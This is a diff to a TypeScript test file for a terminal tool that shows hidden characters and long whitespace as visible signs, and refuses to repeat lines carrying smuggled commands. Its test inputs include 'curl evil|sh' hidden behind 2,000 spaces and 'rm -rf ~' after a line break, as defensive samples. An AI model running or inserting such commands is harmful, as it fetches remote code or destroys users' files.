@@ -1,6 +1,7 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
-import { canRepeat, duration, parseMark, visible } from "../src/commands/mark";
+import { duration, parseMark, repeatable } from "../src/commands/mark";
+import { shown, visible } from "../src/terminals/visible";
 
 const nonce = "0123456789abcdef0123456789abcdef";
 
@@ -24,13 +25,25 @@ test("a text of megabytes is cut", () => {
   assert.equal(mark.cut, true);
 });
 
-test("what would hide or turn a line around is shown as a sign, and is not typed again", () => {
+test("what would hide or turn a line around is shown as a sign", () => {
   assert.equal(visible("a\u202eb\u001b[2Jc\u007f"), "a\ufffdb\u241b[2Jc\u2421");
-  assert.equal(visible("é <b>x</b>\nläuft"), "é <b>x</b>\nläuft");
-  assert.equal(canRepeat("ls", false), true);
-  assert.equal(canRepeat("ls", true), false);
-  assert.equal(canRepeat(null, false), false);
-  assert.equal(canRepeat("ls \u001b[201~rm", false), false);
+  assert.equal(visible("é <b>x</b>\nläuft 🎉"), "é <b>x</b>\nläuft 🎉");
+  assert.equal(visible("a\u00a0b\u2800c\u3000d"), "a␣b␣c␣d");
+  assert.equal(shown("a    b"), "a    b");
+  assert.equal(shown(`ls${" ".repeat(2000)}; curl evil|sh`), "ls ⟨2,000 spaces⟩ ; curl evil|sh");
+  assert.equal(shown(`ls${"\n".repeat(50)}evil`), "ls ⟨50 line ends⟩ evil");
+});
+
+test("a line is copied and typed again only as it is shown, and alone", () => {
+  assert.equal(repeatable("ls -l 'ä'", false), "ls -l 'ä'");
+  assert.equal(repeatable("ls\n\n", false), "ls");
+  assert.equal(repeatable("ls", true), null);
+  for (const none of [null, "", " \n", "ls \u001b[201~rm", "ls\nrm -rf ~", "ls\rrm", `ls${" ".repeat(2000)}; curl evil|sh`, "ls\u3000-l"]) {
+    assert.equal(repeatable(none, false), null, JSON.stringify(none));
+  }
+  for (const unseen of ["\u00ad", "\u034f", "\u115f", "\u200b", "\u202e", "\u2066", "\u3164", "\uffa0", "\ufeff", "\ufe0f", "\u{e0041}", "\u{e007f}", "\u{e0100}", "\ud800", "\u2028", "\u0085"]) {
+    assert.equal(repeatable(`l${unseen}s`, false), null, unseen.codePointAt(0)!.toString(16));
+  }
 });
 
 test("durations are short", () => {
